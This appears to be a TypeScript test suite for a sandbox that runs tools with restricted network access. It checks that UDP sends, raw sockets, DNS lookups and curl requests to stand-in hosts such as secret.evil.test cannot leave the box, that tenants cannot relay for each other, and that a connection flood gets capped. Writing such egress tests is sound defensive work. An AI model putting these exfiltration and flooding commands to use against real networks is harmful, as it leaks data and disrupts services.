import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import t, { type Test } from 'tap'
import { outputOf } from '../executors/fixture.ts'
import { waitFor } from '../support/condition.ts'
import { listening } from '../support/listening.ts'
import { descendantsOf } from './running.ts'
import { boxedTools, withoutBox, type BoxedTools } from './boxed-tools.ts'

const skip = await withoutBox()

interface Place {
  tools: BoxedTools
  /** An entry of a list, for the host that is there. */
  host: string
  lookedUp: string[]
}

async function place (t: Test): Promise<Place> {
  const server = createServer((request, response) => { response.end(`at ${request.url}`) })
  const port = await listening(t, server)
  const lookedUp: string[] = []
  const tools = await boxedTools(t, {
    http: {
      privateHosts: ['api.test'],
      lookup (name, _options, callback) {
        lookedUp.push(name)
        callback(null, [{ address: '127.0.0.1', family: 4 }])
      }
    }
  })
  return { tools, host: `api.test:${port}`, lookedUp }
}

const python = (lines: string): string => `/usr/bin/env python3 - <<'END'\n${lines}\nEND`

void t.test('nothing leaves by UDP, as QUIC and DNS do, by other protocols, or in names that are looked up', { skip }, async t => {
  const { tools, host, lookedUp } = await place(t)
  const outside = createSocket('udp4')
  const got: string[] = []
  outside.on('message', bytes => { got.push(bytes.toString()) }).bind(0, '127.0.0.1')
  await once(outside, 'listening')
  t.teardown(() => { outside.close() })
  const output = String(outputOf(await tools.shell(python(`
import errno, socket
def attempt(what, act):
    try:
        act()
        print(what, "passed")
    except OSError as error:
        print(what, errno.errorcode.get(error.errno, "resolver") if error.errno and error.errno > 0 else "resolver")
def send(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", address)
attempt("quic", lambda: send(socket.AF_INET, ("93.184.216.34", 443)))
attempt("dns", lambda: send(socket.AF_INET, ("8.8.8.8", 53)))
attempt("v6", lambda: send(socket.AF_INET6, ("2606:4700:4700::1111", 53)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1)))
attempt("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
attempt("name", lambda: socket.getaddrinfo("secret.evil.test", 443))
send(socket.AF_INET, ("127.0.0.1", ${outside.address().port}))
send(socket.AF_INET, ("127.0.0.1", 53))
`) + '\ncurl -s -o /dev/null http://secret.evil.test/; curl -s -o /dev/null -x "$TOOLYARD_SOCKS_PROXY" http://other.evil.test/; true', { network: [host] })))
  t.notMatch(output, /passed/)
  t.equal(output.trim().split('\n').length, 8, output)
  // A datagram comes in order: this is behind whatever the box has sent.
  outside.send('marker', outside.address().port, '127.0.0.1')
  await waitFor('the marker has come', () => got.includes('marker'))
  t.strictSame(got, ['marker'])
  t.strictSame(lookedUp, [])
})

void t.test('a tool is no relay for another: one of another list, or of another tenant, does not reach what it serves', { skip }, async t => {
  const { tools, host } = await place(t)
  const serve = python(`
import http.server, socketserver, threading
class Relay(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"relayed")
        threading.Thread(target=self.server.shutdown).start()
socketserver.TCPServer.allow_reuse_address = True
with socketserver.TCPServer(("127.0.0.1", 8999), Relay) as server:
    server.serve_forever()
`)
  const ask = async (network: string[] | undefined, tenant: string): Promise<unknown> => outputOf(await tools.shell('curl -s -m 2 --noproxy "*" http://127.0.0.1:8999/ || echo "no relay"', { tenant, ...network && { network } }))
  const relay = tools.shell(serve, { network: [host], tenant: 'one' })
  for (const [network, tenant] of [[['other.test'], 'one'], [[host], 'two'], [undefined, 'one']] as const) {
    t.equal(String(await ask(network && [...network], tenant)).trim(), 'no relay')
  }
  await waitFor('its own tenant and list reach it', async () => await ask([host], 'one') === 'relayed')
  await relay
})

void t.test('10,000 connections of a tool are cut off beyond 256 at a time, and calls of another tenant go on', { skip }, async t => {
  const { tools, host } = await place(t)
  const script = `const net = require("net"); let [made, held, closed] = [0, 0, 0]
const more = () => { if (made === 10000) return; made++
  net.connect(3128, "127.0.0.1").on("error", () => {}).on("connect", () => { held++ }).on("close", () => { closed++; more(); if (closed === 9000) { console.log(closed); process.exit() } }) }
for (let i = 0; i < 500; i++) more()`
  const state = { ended: false }
  const flood = tools.run({ program: process.execPath, args: ['-e', script], network: [host], tenant: 'one' }).finally(() => { state.ended = true })
  while (!state.ended) t.equal(outputOf(await tools.shell(`curl -s -m 5 http://${host}/y`, { network: [host], tenant: 'two' })), 'at /y')
  t.equal(outputOf(await flood), 9_000)
})

void t.test('a network whose process dies fails the call that is in it, by name, and the next call has another one', { skip }, async t => {
  const { tools, host } = await place(t)
  const curl = `curl -s http://${host}/z`
  const before = descendantsOf(process.pid)
  t.equal(outputOf(await tools.shell(curl, { network: [host] })), 'at /z')
  const [owner = 0] = descendantsOf(process.pid).filter(pid => !before.includes(pid))
  const call = tools.shell('echo begun >&2; sleep 60', { network: [host] })
  await waitFor('it runs', () => tools.logged.includes('begun'))
  process.kill(owner, 'SIGKILL')
  t.match(await call, { ok: false, error: { code: 'WORKER_LOST' } })
  t.equal(outputOf(await tools.shell(curl, { network: [host] })), 'at /z')
})
